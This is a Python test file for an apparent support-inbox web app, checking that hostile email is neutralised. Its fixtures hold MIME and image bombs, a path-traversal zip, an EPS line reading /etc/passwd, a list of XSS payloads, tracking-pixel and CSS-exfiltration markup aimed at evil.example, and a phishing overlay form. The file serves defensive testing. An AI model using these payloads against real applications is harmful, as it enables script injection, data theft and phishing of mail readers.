"""Showing what strangers sent, row by row of the attacks: bombs (16, 17), scripts (19), remote loads (20),
styles and overlays (21), and printing (26). What a browser makes of it: `tests/browser/test_hostile_mail.py`.
"""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterator
from email.message import EmailMessage
from email.utils import formataddr
from io import BytesIO

import pytest
from sqlalchemy import select

from inbox import db, fetch, files, intake, tickets
from inbox.mail import clean
from inbox.models import Account, Agent, Attachment, Message, Payload
from inbox.views import pictures
from inbox.web import headers
from tests.clients import Browser, ClientFor
from tests.mail.pictures import bomb, drawing, moving
from tests.people import MailFrom

pytestmark = pytest.mark.slow

HEAD = b"From: Eve <eve@evil.example>\r\nTo: support@barro.example\r\nSubject: bomb\r\n"
ELSEWHERE = "https://evil.example"


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """What we fetch from others; each has a picture."""
    addresses: list[str] = []

    def get(url: str, **_how: object) -> fetch.Response:
        addresses.append(url)
        return fetch.Response(200, "image/png", drawing(20, 10, "PNG"), url)

    monkeypatch.setattr(fetch, "get", get)
    monkeypatch.setattr(pictures, "_shelf", pictures.Shelf(1_000_000, 60))
    yield addresses


# ----------------------------------------------------------------------------------------- 16, bombs


def nested(levels: int) -> bytes:
    opened = (
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(levels)
    )
    return HEAD + b"".join(opened) + b"Content-Type: text/plain\r\n\r\nat the bottom\r\n"


BOMBS = {
    "two thousand levels": nested(2_000),
    "fifty thousand parts": HEAD
    + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
    + b"--b\r\n\r\nx\r\n" * 50_000
    + b"--b--\r\n",
    "parentheses in a field": b"From: " + b"(" * 100_000 + b"\r\nSubject: bomb\r\n\r\nx",
    "twenty thousand encoded words": HEAD + b"X-Y: " + b"=?utf-8?b?w6k=?= " * 20_000 + b"\r\n\r\nx",
    "forty thousand recipients": b"Cc: " + b", ".join(b"a%d@x.example" % n for n in range(40_000)) + b"\r\n"
    + HEAD + b"\r\nx",
}  # fmt: skip


@pytest.mark.parametrize("bomb_mail", BOMBS.values(), ids=BOMBS.keys())
def test_attack_16_a_mail_made_to_hurt_is_read_or_put_aside_and_the_next_goes_on(
    bomb_mail: bytes, support: Account, ada: Agent, client_for: ClientFor
) -> None:
    [hurts] = intake.accept_mail(bomb_mail, ["support@barro.example"])
    good = HEAD.replace(b"bomb", b"next") + b"Message-ID: <next@x.example>\r\n\r\nHello"
    [after] = intake.accept_mail(good, ["support@barro.example"])
    for payload_id in (hurts, after):
        intake.read_now(payload_id)
    bad, fine = (db.session.get(Payload, number) for number in (hurts, after))
    assert bad and fine and fine.state == "parsed"
    assert bad.state in ("parsed", "failed") and files.get(bad.sha256) == bomb_mail
    if bad.state == "failed":
        client = client_for(ada)
        assert bad.reason and f"/payloads/{hurts}/raw" in client.get("/attention").text
        assert client.get(f"/payloads/{hurts}/raw").data == bomb_mail


# -------------------------------------------------------------------------------- 17, files that burst


def attached(message: Message, name: str, kind: str, content: bytes) -> Attachment:
    file = Attachment(
        message_id=message.id, filename=name, content_type=kind, size=len(content), sha256=files.put(content)
    )
    db.session.add(file)
    db.session.commit()
    return file


SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><image href='http://evil.example/x'/></svg>"


@pytest.mark.parametrize(
    ("name", "kind", "content"),
    [
        ("huge.png", "image/png", bomb(50_000, 50_000)),
        ("drawing.svg", "image/svg+xml", SVG),
        ("drawing.png", "image/png", SVG),
        ("print.eps", "image/png", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run showpage"),
        ("fake.gif", "image/gif", b"GIF89a<script>alert(1)</script>"),
        ("page.png", "image/png", b"<!doctype html><script>alert(1)</script>"),
    ],
)
def test_attack_17_what_is_no_small_raster_picture_gets_no_thumbnail(
    name: str, kind: str, content: bytes, ada: Agent, mail_from: MailFrom, client_for: ClientFor
) -> None:
    file = attached(mail_from.message(), name, kind, content)
    assert client_for(ada).get(f"/files/{file.token}/small").status_code == 404


def test_attack_17_a_thumbnail_is_made_of_pixels_only(
    ada: Agent, mail_from: MailFrom, client_for: ClientFor
) -> None:
    page = b"<script>alert(1)</script>"
    for number, content in enumerate(
        (drawing(900, 600, "JPEG", comment=page) + page, moving(50, 40, 4) + page)
    ):
        file = attached(mail_from.message(), f"{number}.jpg", "image/jpeg", content)
        answer = client_for(ada).get(f"/files/{file.token}/small")
        assert answer.status_code == 200 and page not in answer.data and len(answer.data) < 20_000
        assert answer.headers["Content-Type"] in ("image/png", "image/jpeg")
        assert answer.headers["Content-Security-Policy"] == headers.FILE
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_attack_17_an_archive_is_kept_as_it_came_and_never_opened(
    support: Account, ada: Agent, client_for: ClientFor
) -> None:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../escape.txt", b"x")
        archive.writestr("zeros", b"\0" * 30_000_000)
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "Eve <eve@evil.example>", "support@barro.example", "zip"
    mail.set_content("Open it!")
    mail.add_attachment(packed.getvalue(), maintype="application", subtype="zip", filename="../../42.zip")
    [payload_id] = intake.accept_mail(mail.as_bytes(), ["support@barro.example"])
    intake.read_now(payload_id)
    file = db.session.scalars(select(Attachment)).one()
    assert file.size == len(packed.getvalue()) and "/" not in file.filename
    answer = client_for(ada).get(f"/files/{file.token}/x")
    assert answer.data == packed.getvalue()
    assert answer.headers["Content-Disposition"].startswith("attachment")


# -------------------------------------------------------------------------------------- 19, scripts

XSS = """
<script>alert(1)</script> <img src=x onerror=alert(1)> <svg onload=alert(1)> <body onpageshow=alert(1)>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mi><style><img src=x onerror=alert(1)></style></mi></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<a href="jav&#x09;ascript:alert(1)">x</a>
<form action="/tickets/1/resolution" method=post><input type=submit autofocus onfocus=alert(1)></form>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<meta http-equiv=refresh content="0;url=javascript:alert(1)"> <base href="//evil.example/">
<template><img src=x onerror=alert(1)></template>
"""


def test_attack_19_the_frame_runs_nothing_whatever_it_is_given(
    ada: Agent, mail_from: MailFrom, client_for: ClientFor
) -> None:
    message = mail_from.message(html=clean(XSS))
    client = client_for(ada)
    for path in (f"/messages/{message.id}/frame", f"/tickets/{message.ticket_id}/print?notes=1"):
        answer = client.get(path)
        policy = answer.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy and "script-src" not in policy, path
        assert not re.search(
            r"<script|\son\w+\s*=|javascript:|<form|<iframe|<object|<meta http|<base", answer.text
        )
    assert (
        "sandbox allow-same-origin allow-popups"
        in client.get(f"/messages/{message.id}/frame").headers["Content-Security-Policy"]
    )


def test_attack_19_names_subjects_and_notes_are_words_on_every_page_of_a_message(
    ada: Agent, mail_from: MailFrom, client_for: ClientFor
) -> None:
    evil = '"><img src=x onerror=alert(1)><script>alert(1)</script>'
    message = mail_from.message(formataddr((evil, "eve@evil.example")), subject=evil, text=evil)
    message.notes = [evil, "smime_signed"]
    message.checks = {"spf": evil, "by": evil}
    message.forwarded_from = {"name": evil, "address": evil}
    message.recipients = {"to": [{"name": evil, "address": evil}], "cc": [{"name": "", "address": evil}]}
    raw = f"Subject: {evil}\r\nReceived: from {evil} by {evil} with X; {evil}\r\n{evil}: x\r\n\r\n{evil}"
    message.payload = Payload(
        account=message.ticket.account, sha256=files.put(raw.encode()), size=1, state="parsed", recipients=[]
    )
    attached(message, evil, evil, b"x")
    reply = tickets.reply(message.ticket, ada, "<p>Hi</p>", key="k")
    reply.bounces = [{"address": evil, "action": "failed", "status": evil, "diagnostic": evil}]
    reply.refused = {evil: {"said": evil, "again": False}}
    db.session.commit()
    client, number = client_for(ada), message.id
    for path in (
        f"/tickets/{message.ticket_id}/_pane", f"/messages/{number}/_message", f"/messages/{number}/headers",
        f"/messages/{number}/source", f"/messages/{number}/print", f"/tickets/{message.ticket_id}/print",
        f"/messages/{reply.id}/_message",
    ):  # fmt: skip
        answer = client.get(path)
        assert answer.status_code == 200, path
        assert "<img src=x" not in answer.text and "<script>alert" not in answer.text, path


# ------------------------------------------------------------------------------------ 20, remote loads

LOADS = f"""
<img src="{ELSEWHERE}/a.png"><img src="{ELSEWHERE}/b.png" srcset="{ELSEWHERE}/c 2x" lowsrc="{ELSEWHERE}/d">
<table background="{ELSEWHERE}/e"><tr>
<td background="{ELSEWHERE}/f" style="background:url({ELSEWHERE}/g)">x</td></tr></table>
<div style="background-image:u\\72l({ELSEWHERE}/h)">x</div><div style="list-style:url({ELSEWHERE}/i)">x</div>
<style>@import "{ELSEWHERE}/j"; @font-face {{ font-family: x; src: url({ELSEWHERE}/k) }}
 p {{ background: url({ELSEWHERE}/l) }}
 * {{ content: url({ELSEWHERE}/m); cursor: url({ELSEWHERE}/n), auto }}</style><p>styled</p>
<svg><image href="{ELSEWHERE}/o"/><animate attributeName=href values="{ELSEWHERE}/p"/>
<use href="{ELSEWHERE}/q#x"/></svg>
<video poster="{ELSEWHERE}/r" src="{ELSEWHERE}/s" autoplay></video>
<audio src="{ELSEWHERE}/t" autoplay></audio>
<link rel=stylesheet href="{ELSEWHERE}/u">
<link rel=dns-prefetch href="//evil.example"><link rel=prefetch href="{ELSEWHERE}/v">
<input type=image src="{ELSEWHERE}/w"><iframe src="{ELSEWHERE}/y"></iframe>
<object data="{ELSEWHERE}/z"></object>
<img src="{ELSEWHERE}/pixel" width=1 height=1><a href="{ELSEWHERE}/link" ping="{ELSEWHERE}/ping">link</a>
"""


def in_frame(page: str) -> str:
    """Without where links lead: nothing is loaded from there until somebody follows one."""
    return re.sub(r' (?:href|title|data-remote)="[^"]*"', "", page)


@pytest.fixture
def loads(support: Account) -> Message:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "Eve <eve@evil.example>", "support@barro.example", "Look"
    mail["Message-ID"] = "<look@evil.example>"
    mail.set_content(LOADS, subtype="html")
    [payload_id] = intake.accept_mail(mail.as_bytes(), ["support@barro.example"])
    intake.read_now(payload_id)
    return db.session.scalars(select(Message).where(Message.kind == "customer")).one()


def test_attack_20_nothing_is_loaded_before_somebody_asks(
    loads: Message, ada: Agent, client_for: ClientFor, asked: list[str]
) -> None:
    client = client_for(ada)
    frame = client.get(f"/messages/{loads.id}/frame")
    assert "evil.example" not in in_frame(frame.text)
    assert frame.headers["Content-Security-Policy"] == headers.LETTER and "http" not in headers.LETTER
    assert "evil.example/a" not in client.get(f"/tickets/{loads.ticket_id}/_pane").text
    assert asked == []


def test_attack_20_then_only_pictures_through_us_and_without_a_word_about_the_reader(
    loads: Message, ada: Agent, client_for: ClientFor, asked: list[str]
) -> None:
    client = client_for(ada)
    frame = client.get(f"/messages/{loads.id}/frame?images=1")
    assert "evil.example" not in in_frame(frame.text)
    assert frame.headers["Content-Security-Policy"] == headers.LETTER
    sources = re.findall(r'<img[^>]* src="([^"]*)"', frame.text)
    assert len(sources) == 2 and all(source.startswith(f"/messages/{loads.id}/images/") for source in sources)
    for source in sources * 2:
        answer = client.get(source)
        assert answer.status_code == 200 and answer.headers["Content-Type"] == "image/png"
        assert answer.headers["Cache-Control"].startswith("private")
    assert asked == [f"{ELSEWHERE}/a.png", f"{ELSEWHERE}/b.png"]  # each once, and no pixel


def test_attack_20_the_proxy_fetches_nothing_that_does_not_stand_in_the_mail(
    loads: Message, ada: Agent, mail_from: MailFrom, client_for: ClientFor, asked: list[str]
) -> None:
    client, other = client_for(ada), mail_from.message(html="<p>Hi</p>")
    stands, pixel = pictures.name_of(f"{ELSEWHERE}/a.png"), pictures.name_of(f"{ELSEWHERE}/pixel")
    for path in (
        f"/messages/{loads.id}/images/{pictures.name_of('https://elsewhere.example/x')}",
        f"/messages/{loads.id}/images/{pixel}",
        f"/messages/{loads.id}/images/https:%2F%2Fevil.example%2Fa.png",
        f"/messages/{other.id}/images/{stands}",
    ):
        assert client.get(path).status_code == 404, path
    assert asked == []


@pytest.mark.parametrize(
    "answer",
    [
        fetch.Response(200, "image/svg+xml", SVG, ELSEWHERE),
        fetch.Response(200, "text/html", b"<script>alert(1)</script>", ELSEWHERE),
        fetch.Response(200, "image/png", bomb(50_000, 50_000), ELSEWHERE),
        fetch.Response(404, "image/png", drawing(9, 9, "PNG"), ELSEWHERE),
        fetch.Refused(),
        fetch.Failed(),
    ],
)
def test_attack_20_what_comes_back_and_is_no_picture_is_not_passed_on(
    answer: object, loads: Message, ada: Agent, client_for: ClientFor, monkeypatch: pytest.MonkeyPatch
) -> None:
    times = []

    def get(_url: str, **_how: object) -> object:
        times.append(1)
        if isinstance(answer, Exception):
            raise answer
        return answer

    monkeypatch.setattr(fetch, "get", get)
    monkeypatch.setattr(pictures, "_shelf", pictures.Shelf(1_000_000, 60))
    path = f"/messages/{loads.id}/images/{pictures.name_of(f'{ELSEWHERE}/a.png')}"
    client = client_for(ada)
    assert [client.get(path).status_code for _ in range(3)] == [404] * 3
    assert len(times) == 1  # a broken address is not asked again and again


def test_attack_20_what_was_drawn_is_kept_within_bounds(monkeypatch: pytest.MonkeyPatch) -> None:
    shelf = pictures.Shelf(most_bytes=10_000, seconds=60)
    made: list[int] = []

    def draw(number: int) -> pictures.Picture:
        made.append(number)
        return pictures.Picture("image/png", b"x" * 3_000, 1, 1)

    for number in (1, 2, 1, 3, 4, 1):
        shelf.get(str(number), lambda number=number: draw(number))
    assert made == [1, 2, 3, 4, 1] and shelf._bytes <= 10_000
    old = pictures.Shelf(most_bytes=10_000, seconds=0)
    for _ in range(2):
        old.get("1", lambda: draw(9))
    assert made.count(9) == 2 and old._bytes < 4_000


# ---------------------------------------------------------------------------- 21, styles and overlays

OVERLAYS = """
<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your session is over</div>
<div style="position:absolute;top:-500px">up</div><div style="margin-top:-900px">over</div>
<div style="transform:scale(99)">big</div><div style="float:left;width:100vw;height:100vh">all</div>
<style>input[value^=a] { background: url(//evil.example/a) } body { display: none }
 #composer { color: red }</style>
<form action="https://evil.example"><input name=password><button>Sign in</button>
<select><option>a</select></form>
<div id="composer" class="letter" name="csrf" data-do="resolve" hx-delete="/tickets/1">x</div>
<a href="https://evil.example" target="_top" rel="opener">https://barro.example/login</a>
"""


def test_attack_21_a_letter_stays_in_its_frame_and_its_links_say_where_they_lead(
    ada: Agent, mail_from: MailFrom, client_for: ClientFor
) -> None:
    message = mail_from.message(html=clean(OVERLAYS))
    frame = client_for(ada).get(f"/messages/{message.id}/frame").text
    letter = frame.partition("<body>")[2]
    assert not re.search(
        r"position|z-index|transform|margin-top|<style|<form|<input|<button|<select|<option"
        r"|\sid=|\sclass=\"letter|\sname=|data-do|hx-",
        letter,
    )
    assert 'target="_blank"' in letter and 'rel="noopener noreferrer"' in letter and "_top" not in letter
    assert 'title="evil.example"' in letter
    assert '<strong class="elsewhere">leads to evil.example</strong>' in letter


def test_attack_21_links_in_plain_text_are_as_careful(
    ada: Agent, mail_from: MailFrom, client_for: ClientFor
) -> None:
    message = mail_from.message(
        text="See https://x.example/a?b=1&c=2 and https://p\u0430ypal.com/ <b>now</b>"
    )
    shown = client_for(ada).get(f"/messages/{message.id}/_message").text
    assert 'title="x.example/a?b=1&amp;c=2"' in shown and "&lt;b&gt;now" in shown
    assert (
        shown.count('rel="nofollow noopener noreferrer"') + shown.count('rel="noopener noreferrer nofollow"')
        >= 2
    )
    assert "leads to xn--pypal-4ve.com" in shown


# ------------------------------------------------------------------------------------------- 26, print


def test_attack_26_a_print_loads_nothing_and_holds_no_notes(
    loads: Message, ada: Agent, client_for: ClientFor, asked: list[str]
) -> None:
    tickets.note(loads.ticket, ada, "<p>Do not tell her</p>", key="n")
    db.session.commit()
    client: Browser = client_for(ada)
    page = client.get(f"/tickets/{loads.ticket_id}/print")
    assert "evil.example" not in in_frame(page.text).replace("eve@evil.example", "")
    assert "file:" not in page.text and "Do not tell her" not in page.text
    assert "Do not tell her" in client.get(f"/tickets/{loads.ticket_id}/print?notes=1").text
    policy = page.headers["Content-Security-Policy"]
    assert policy == headers.PAPER and "script-src" not in policy and "http" not in policy
    assert asked == []
